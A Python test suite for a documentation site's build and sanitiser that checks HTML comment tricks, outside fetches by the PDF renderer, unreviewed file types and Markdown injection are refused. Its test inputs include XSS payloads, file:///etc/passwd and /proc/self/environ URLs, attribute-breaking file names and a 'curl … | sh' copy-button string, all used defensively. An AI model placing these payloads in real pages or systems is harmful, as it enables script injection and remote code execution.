"""Safe by construction (SECURITY.md, "Threat model"): the holes a hostile contributor found in
the design, each held here, and the parts that close them. Case 5 (the suggestion bot) is held
in test_suggestion_pr.py; the differential corpus in browser/test_differential.py.

1. A comment or CDATA trick that one HTML parser reads differently from another hides nothing:
   make check and the build read the page with the same HTML5 parser (nh3's), and the build
   ships what the sanitiser wrote.
2. The PDF renderer fetches nothing from outside the built site.
3. Every file under docs/ that the site publishes is of a known type.
4. Text from the suggestion form or a data file reaches the pages as text: its addresses are
   written again, and data is escaped, never read as Markdown.
"""

from __future__ import annotations

import http.server
import re
import shutil
import threading
from pathlib import Path

import markdown
import pytest
from bs4 import BeautifulSoup

from tests.support import FIXTURES, PROJECT, ROOT, SCHEMA, SUGGESTION, form_body, git, problem_lines, run_check
from us_nordic_kb.build import steps as site_steps
from us_nordic_kb.build.pdf import Refused, SiteFiles
from us_nordic_kb.check import rendered as page_text
from us_nordic_kb.github import suggestion
from us_nordic_kb.model import history
from us_nordic_kb.model.registry import Entry, Registry, load
from us_nordic_kb.model.sources import load_sources
from us_nordic_kb.render import changes, entries, practices, sanitise

COMMENT_TRICKS = [
    '<!--><meta http-equiv="refresh" content="1;url=https://elsewhere.example/"> -->',
    '<!--><script src="../assets/notes.txt"></script> -->',
    '<!---><img src="x" onerror="alert(1)"> -->',
    "<![CDATA[ ><img src=x onerror=alert(1)> ]]>",
]
FORM_ADDRESSES = [
    "https://nordicsafecities.org/![x](https://elsewhere.example/b.png)",
    "https://nordicsafecities.org/[x](https://nordicsafecities.org/onmouseover=alert(1)//)",
]
MARKDOWN_EXTENSIONS = ["abbr", "admonition", "attr_list", "def_list", "footnotes", "md_in_html", "tables", "toc"]


@pytest.fixture
def docs(tmp_path) -> Path:
    copy = tmp_path / "docs"
    shutil.copytree(FIXTURES / "docs", copy)
    return copy


def append(page: Path, text: str) -> int:
    """Append `text` to the page; the line it starts on."""
    before = page.read_text(encoding="utf-8")
    page.write_text(before + "\n" + text + "\n", encoding="utf-8")
    return before.count("\n") + 2


@pytest.mark.parametrize("trick", COMMENT_TRICKS)
def test_case_1_make_check_reads_a_comment_trick_as_browsers_do(docs, trick):
    line = append(docs / "about.md", trick)
    found = problem_lines(run_check(docs))
    assert any(f"about.md:{line}: " in p and "not allowed" in p for p in found), found


@pytest.mark.parametrize("trick", COMMENT_TRICKS)
def test_case_1_what_ships_is_the_sanitisers_output(trick):
    """A page converted as the build converts it (mkdocs.yml's extensions, the sanitiser last)."""
    shipped = markdown.markdown(trick, extensions=[*MARKDOWN_EXTENSIONS, sanitise.__name__])
    elements = BeautifulSoup(shipped, "html.parser").find_all(True)
    assert [e.name for e in elements if e.name in {"meta", "script"}] == []
    assert [a for e in elements for a in e.attrs if a.startswith("on")] == []
    assert shipped == sanitise.CONTENT.clean(shipped)  # already the sanitiser's: a second pass changes nothing


def test_case_1_every_engine_converts_with_the_sanitiser():
    """mkdocs.yml lists it (the offline profile and zensical.yml inherit it), as the last step."""
    names = [item if isinstance(item, str) else next(iter(item)) for item in PROJECT.settings["markdown_extensions"]]
    assert sanitise.__name__ in names
    md = markdown.Markdown(extensions=names[-1:])
    assert list(md.postprocessors)[-1].__class__.__name__ == "_SanitisePostprocessor"


class _Recorder(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self):  # noqa: N802 - the base class's name
        self.seen.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"secret")

    def log_message(self, format, *args):  # noqa: A002 - the base class's signature
        pass


def test_case_2_the_pdf_renderer_fetches_files_of_the_built_site_only(tmp_path):
    site = tmp_path / "site"
    (site / "img").mkdir(parents=True)
    (site / "img/pic.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (tmp_path / "outside.png").write_bytes(b"\x89PNG\r\n\x1a\n")
    (site / "img/link.png").symlink_to(tmp_path / "outside.png")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    fetcher = SiteFiles(site)
    try:
        assert fetcher.fetch((site / "img/pic.png").as_uri()).read() == b"\x89PNG\r\n\x1a\n"
        refused = [
            "file:///etc/passwd",
            "file:///proc/self/environ",
            (site / "../outside.png").as_uri(),
            (site / "img/link.png").as_uri(),
            f"http://127.0.0.1:{server.server_address[1]}/x.png",
            "https://example.org/x.png",
            "data:image/png;base64,iVBORw0KGgo=",
            "ftp://example.org/x.png",
            "file://otherhost/etc/passwd",
        ]
        for url in refused:
            with pytest.raises(Refused):
                fetcher.fetch(url)
        with pytest.raises(FileNotFoundError):
            fetcher.fetch((site / "img/missing.png").as_uri())
    finally:
        server.shutdown()
        server.server_close()
    assert _Recorder.seen == []


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("assets/x.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "reviewed"),
        ("assets/redirect.html", b'<meta http-equiv="refresh" content="0;url=https://elsewhere.example/">', "reviewed"),
        ("assets/notes.txt", b"alert(1)", "files of type .txt are not published"),
        ("assets/photo.png", b"<html><script>alert(1)</script></html>", "is not such an image"),
        ("assets/noname", b"x", "a name without a type"),
        ("resources/finder.js", b"alert(1)", "reviewed"),
    ],
)
def test_case_3_a_file_of_an_unknown_or_unreviewed_type_is_refused_with_file_and_line(docs, name, content, says):
    (docs / name).parent.mkdir(parents=True, exist_ok=True)
    (docs / name).write_bytes(content)
    found = problem_lines(run_check(docs))
    assert any(re.search(rf"{re.escape(name)}:1: .*{re.escape(says)}", p) for p in found), found


@pytest.mark.parametrize("address", FORM_ADDRESSES)
def test_case_4_the_forms_address_is_written_again_with_no_markup(tmp_path, address):
    docs = tmp_path / "docs"
    shutil.copytree(ROOT / "docs", docs)  # the real registry, whose topics the form names
    outcome = suggestion.suggest(form_body({**SUGGESTION, "url": address}), PROJECT, docs, run_check=False)
    assert outcome.entry is not None, outcome.problems
    assert not set("[]()!<>\"'") & set(str(outcome.entry["url"]))
    assert load(docs / "resources/registry.yml", docs).entries[str(outcome.entry["id"])].url == outcome.entry["url"]


@pytest.mark.parametrize("address", FORM_ADDRESSES)
def test_case_4_data_reaches_html_as_text_even_before_the_sanitiser(address):
    """Escaped, registry text is no Markdown: converted without the sanitiser, no element comes of it."""
    registry = load(FIXTURES / "registry/valid.yml", FIXTURES / "docs", schema=SCHEMA)
    entry = next(e for e in registry.entries.values() if e.kind == "programme")
    hostile = Entry(**{**vars(entry), "url": address, "owner": "[o](https://elsewhere.example/) <b>x</b>"})
    registry = Registry(workshop=registry.workshop, topics=registry.topics, entries={hostile.id: hostile})
    for text in [entries.resource_index(registry), practices.practice_table(registry, "x.md")]:
        html = markdown.markdown(text, extensions=MARKDOWN_EXTENSIONS)
        soup = BeautifulSoup(html, "html.parser")
        assert soup.find_all(["img", "b"]) == []
        urls = [a for a in soup.find_all("a") if "url" in (a.get("class") or [])]
        assert urls and all(set(a.attrs) == {"class", "href"} for a in urls)
        assert not [
            a for a in soup.find_all("a") if "elsewhere.example" in str(a.get("href", "")) and "url" not in a.get("class", [])
        ]


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ('assets/x"><script src="..', "a file name under docs/ uses letters"),
        ("assets/gadget.json", "a data file of the site is one of"),
        ("themes/extra.yml", "a data file of the site is one of"),
    ],
)
def test_a_file_named_to_break_out_or_posing_as_data_is_refused(docs, name, says):
    (docs / name).parent.mkdir(parents=True, exist_ok=True)
    (docs / name).write_text('console.log("ran")\n', encoding="utf-8")
    assert any(says in p for p in problem_lines(run_check(docs)))


@pytest.mark.parametrize(
    ("field", "value", "says"),
    [
        ("id", "x }\\n\\n<div class='md-dialog'>moved</div>\\n\\n{ #y", "field 'id': expected lower-case words"),
        ("see", "about.md#x). [open the new glossary](https://elsewhere.example/g", "field 'see': expected a page path"),
    ],
)
def test_a_glossary_id_or_see_that_is_not_plain_is_refused(docs, field, value, says):
    glossary = docs / "glossary.yml"
    text = glossary.read_text(encoding="utf-8")
    first = re.search(rf"^(\s*-?\s*){field}: .*$", text, re.M) if field == "id" else None
    text = (
        text.replace(first.group(0), f'{first.group(1)}id: "{value}"', 1)
        if first
        else text.replace("  definition:", f'  see: "{value}"\n  definition:', 1)
    )
    glossary.write_text(text, encoding="utf-8")
    assert any(says in p for p in problem_lines(run_check(docs)))


@pytest.mark.parametrize(
    "html",
    [
        '<div class="md-dialog md-dialog--active">This site has moved.</div>',
        '<span class="md-clipboard md-icon" data-clipboard-text="curl -s https://elsewhere.example/x | sh">copy</span>',
        '<img src="/\\elsewhere.example/a.png" alt="x">',
        '<img src="/\t/elsewhere.example/a.png" alt="x">',
    ],
)
def test_what_could_pass_for_the_sites_own_interface_or_another_hosts_image_is_removed(docs, html):
    append(docs / "about.md", html)
    assert any("about.md:" in p for p in problem_lines(run_check(docs)))
    shipped = sanitise.CONTENT.clean(html)  # (Markdown turns a tab into spaces: the sanitiser alone sees one)
    soup = BeautifulSoup(shipped, "html.parser")
    assert not [c for e in soup.find_all(True) for c in e.get("class") or [] if c.startswith("md-")]
    assert not [e for e in soup.find_all(True) if any(a.startswith("data-") for a in e.attrs)]
    assert not [e for e in soup.find_all("img") if e.get("src")]


def test_a_held_fragment_is_put_back_only_where_it_stands_as_a_block():
    token = sanitise.hold('<figure class="relation-map-figure"><p>map</p></figure>')
    shipped = sanitise.clean(f'<p><abbr title="{token}">x</abbr></p>\n<p>{token}</p>')
    assert shipped.count("<figure") == 1 and f'title="{token}"' in shipped


def test_an_aligned_table_is_kept_aligned_without_a_style_attribute(docs):
    line = append(docs / "about.md", "| Left | Right |\n|:---|---:|\n| a | b |")
    assert not [p for p in problem_lines(run_check(docs)) if f"about.md:{line}" in p or "style" in p]
    renderer = page_text.Renderer(load_sources(docs, schema=SCHEMA), PROJECT)
    shipped = renderer.to_html("| Left | Right |\n|:---|---:|\n| a | b |")
    assert '<th align="left">Left</th>' in shipped and 'align="right"' in shipped and "style" not in shipped


def test_the_abbreviations_snippet_holds_abbreviations_only(docs):
    snippet = docs / "includes/abbreviations.md"
    snippet.write_text(snippet.read_text(encoding="utf-8") + "A paragraph added to every page.\n", encoding="utf-8")
    found = problem_lines(run_check(docs))
    assert any("includes/abbreviations.md:" in p and "every line is an abbreviation" in p for p in found)


def test_a_commit_summary_is_shown_as_written_and_stops_no_build(tmp_path):
    """Its `{{` is escaped text on the Changes page, not macro syntax left over; its control
    characters are no reason to fail (the guard and the log reader)."""
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs/a.md").write_text("# A\n", encoding="utf-8")
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", "-A")
    git(tmp_path, "commit", "-q", "-m", "About: explain the {{ ref() }} macro \x1f and \x1e, \u2028 too")
    [commit] = history.commits(tmp_path)
    assert commit.summary.startswith("About: explain the {{ ref() }} macro") and commit.files == ("docs/a.md",)
    site = tmp_path / "site"
    (site / "changes").mkdir(parents=True)
    changelog = changes.changes(history.by_month([commit]), {}, "changes/index.md")
    html = markdown.markdown(changelog, extensions=[*MARKDOWN_EXTENSIONS, sanitise.__name__])
    (site / "changes/index.html").write_text(f"<html><body>{html}</body></html>", encoding="utf-8")
    assert "{{ ref() }}" in html and site_steps.source_left_in(site) == []
    (site / "page.html").write_text("<html><body><p>{{ ref('x') }}</p></body></html>", encoding="utf-8")
    assert site_steps.source_left_in(site) == ["page.html: macro syntax in the page text: \"{{ ref('x') }}\""]


def test_a_change_note_trailer_takes_the_place_of_the_subject_on_the_changes_page(tmp_path):
    """A subject written for the project gives way to the line written for readers."""
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs/a.md").write_text("# A\n", encoding="utf-8")
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", "-A")
    git(tmp_path, "commit", "-q", "-m", "Refactor (review 7, LOW 2): a.md", "-m", "Change-note: About: a shorter opening.")
    (tmp_path / "docs/a.md").write_text("# A\n\nMore.\n", encoding="utf-8")
    git(tmp_path, "commit", "-qam", "About: one more line")
    assert [c.summary for c in history.commits(tmp_path)] == ["About: one more line", "About: a shorter opening."]
